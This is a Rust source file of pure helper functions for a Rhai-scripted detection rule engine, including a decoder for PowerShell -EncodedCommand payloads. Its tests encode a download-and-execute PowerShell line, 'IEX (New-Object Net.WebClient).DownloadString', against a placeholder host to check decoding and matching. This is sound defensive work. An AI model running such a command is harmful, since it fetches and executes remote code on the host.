//! Pure functions rule authors call from Rhai. None of them does I/O.
//!
//! | function | returns |
//! | --- | --- |
//! | `icontains(text, part)` | `text` contains `part`, ignoring ASCII case |
//! | `contains_any(text, [parts])` | `text` contains any of `parts`, ignoring ASCII case |
//! | `ends_with_any(text, [ends])` | `text` ends with any of `ends`, ignoring ASCII case |
//! | `basename(path)` | the last component of a Windows or Unix path |
//! | `powershell_encoded(cmdline)` | the decoded `-EncodedCommand` payload, or `()` |
//!
//! Each accepts `()` where it takes text, and treats it as empty, so an absent field does not
//! make a rule fail.
//!
//! The engine counts a helper call as one operation however long its input is, so each helper
//! reads the time budget's clock itself: before it starts, and every
//! `HELPER_CLOCK_BYTES` (64 KiB) of work inside. A rule that calls `icontains` on a long string in a
//! loop is stopped by its time budget like any other slow rule.

use base64::Engine as _;
use rhai::{Array, Dynamic, Engine, EvalAltResult, ImmutableString};

use super::sandbox::{Deadline, HELPER_CLOCK_BYTES};

type Checked<T> = Result<T, Box<EvalAltResult>>;

pub fn register(engine: &mut Engine, deadline: &Deadline) {
    let clock = deadline.clone();
    engine.register_fn("icontains", move |text: &str, part: &str| {
        icontains_within(text, part, &clock)
    });
    engine.register_fn("icontains", |_: (), _: &str| false);
    let clock = deadline.clone();
    engine.register_fn(
        "contains_any",
        move |text: &str, parts: Array| -> Checked<bool> {
            for part in strings(&parts) {
                if icontains_within(text, &part, &clock)? {
                    return Ok(true);
                }
            }
            Ok(false)
        },
    );
    engine.register_fn("contains_any", |_: (), _: Array| false);
    let clock = deadline.clone();
    engine.register_fn(
        "ends_with_any",
        move |text: &str, ends: Array| -> Checked<bool> {
            // Each comparison is at most as long as the end it compares, so one check is enough.
            clock.check()?;
            Ok(strings(&ends).any(|end| ends_with_ignore_case(text, &end)))
        },
    );
    engine.register_fn("ends_with_any", |_: (), _: Array| false);
    let clock = deadline.clone();
    engine.register_fn("basename", move |path: &str| -> Checked<String> {
        clock.check()?;
        Ok(basename(path).to_string())
    });
    engine.register_fn("basename", |_: ()| String::new());
    let clock = deadline.clone();
    engine.register_fn(
        "powershell_encoded",
        move |cmdline: &str| -> Checked<Dynamic> {
            // Decoding is linear in the command line, which the event size bounds (a few ms).
            clock.check()?;
            Ok(powershell_encoded(cmdline).map_or(Dynamic::UNIT, Dynamic::from))
        },
    );
    engine.register_fn("powershell_encoded", |_: ()| Dynamic::UNIT);
}

fn strings(items: &Array) -> impl Iterator<Item = ImmutableString> + '_ {
    items
        .iter()
        .filter_map(|item| item.clone().into_immutable_string().ok())
}

/// [`icontains`] for scripts: the same test, stopped by the time budget. Comparing candidates
/// costs up to `text.len() * part.len()` byte comparisons, so the clock is read by work done,
/// not by call.
fn icontains_within(text: &str, part: &str, clock: &Deadline) -> Checked<bool> {
    clock.check()?;
    let (text, part) = (text.as_bytes(), part.as_bytes());
    if part.is_empty() {
        return Ok(true);
    }
    let (first, rest) = (part[0].to_ascii_lowercase(), &part[1..]);
    let Some(last_start) = text.len().checked_sub(part.len()) else {
        return Ok(false);
    };
    let mut work = 0usize;
    for (i, byte) in text[..=last_start].iter().enumerate() {
        work += 1;
        if byte.to_ascii_lowercase() == first {
            work += rest.len();
            if text[i + 1..i + part.len()].eq_ignore_ascii_case(rest) {
                return Ok(true);
            }
        }
        if work >= HELPER_CLOCK_BYTES {
            work = 0;
            clock.check()?;
        }
    }
    Ok(false)
}

/// Case-insensitive (ASCII) substring test without allocating.
pub fn icontains(text: &str, part: &str) -> bool {
    let (text, part) = (text.as_bytes(), part.as_bytes());
    if part.is_empty() {
        return true;
    }
    // Find candidates by their first byte (either case) before comparing the rest.
    let (first, rest) = (part[0].to_ascii_lowercase(), &part[1..]);
    let last_start = match text.len().checked_sub(part.len()) {
        Some(last) => last,
        None => return false,
    };
    text[..=last_start].iter().enumerate().any(|(i, byte)| {
        byte.to_ascii_lowercase() == first && text[i + 1..i + part.len()].eq_ignore_ascii_case(rest)
    })
}

pub fn ends_with_ignore_case(text: &str, end: &str) -> bool {
    text.len() >= end.len()
        && text.as_bytes()[text.len() - end.len()..].eq_ignore_ascii_case(end.as_bytes())
}

pub fn starts_with_ignore_case(text: &str, start: &str) -> bool {
    text.len() >= start.len()
        && text.as_bytes()[..start.len()].eq_ignore_ascii_case(start.as_bytes())
}

fn basename(path: &str) -> &str {
    path.rsplit(['\\', '/']).next().unwrap_or(path)
}

/// PowerShell accepts any unambiguous prefix of `-EncodedCommand` from `-e` on (and `/` as well
/// as `-`); the payload is base64 of UTF-16LE text.
fn powershell_encoded(cmdline: &str) -> Option<String> {
    let mut words = cmdline.split_whitespace();
    while let Some(word) = words.next() {
        let flag = word.trim_start_matches(['-', '/']).to_ascii_lowercase();
        let is_flag = word.len() > flag.len()
            && !flag.is_empty()
            && ("encodedcommand".starts_with(&flag) || flag == "ec");
        if !is_flag {
            continue;
        }
        let payload = words.next()?.trim_matches(['"', '\'']);
        let bytes = base64::engine::general_purpose::STANDARD
            .decode(payload)
            .ok()?;
        let units: Vec<u16> = bytes
            .chunks_exact(2)
            .map(|pair| u16::from_le_bytes([pair[0], pair[1]]))
            .collect();
        return Some(String::from_utf16_lossy(&units));
    }
    None
}

#[cfg(test)]
mod tests {
    use super::*;

    fn encode(text: &str) -> String {
        let bytes: Vec<u8> = text.encode_utf16().flat_map(u16::to_le_bytes).collect();
        base64::engine::general_purpose::STANDARD.encode(bytes)
    }

    #[test]
    fn decodes_every_spelling_of_the_encoded_flag() {
        let payload = encode("IEX (New-Object Net.WebClient).DownloadString('http://x/a')");
        for flag in ["-e", "-enc", "-EncodedCommand", "/enc", "-ec", "-ENCOD"] {
            let decoded = powershell_encoded(&format!("powershell.exe -nop {flag} {payload}"));
            assert!(
                decoded.unwrap_or_default().contains("DownloadString"),
                "{flag}"
            );
        }
        assert_eq!(
            powershell_encoded("powershell.exe -ExecutionPolicy Bypass"),
            None
        );
        assert_eq!(powershell_encoded("powershell.exe -enc !!notbase64"), None);
    }

    #[test]
    fn case_insensitive_matching() {
        assert!(icontains("IEX (New-Object Net.WebClient)", "net.webclient"));
        assert!(!icontains("abc", "abcd"));
        assert!(ends_with_ignore_case(
            "C:\\Windows\\POWERSHELL.EXE",
            "powershell.exe"
        ));
        assert!(starts_with_ignore_case("WinWord.exe", "winword"));
        assert_eq!(
            basename("C:\\Program Files\\Office\\WINWORD.EXE"),
            "WINWORD.EXE"
        );
        assert_eq!(basename("/usr/bin/bash"), "bash");
    }
}
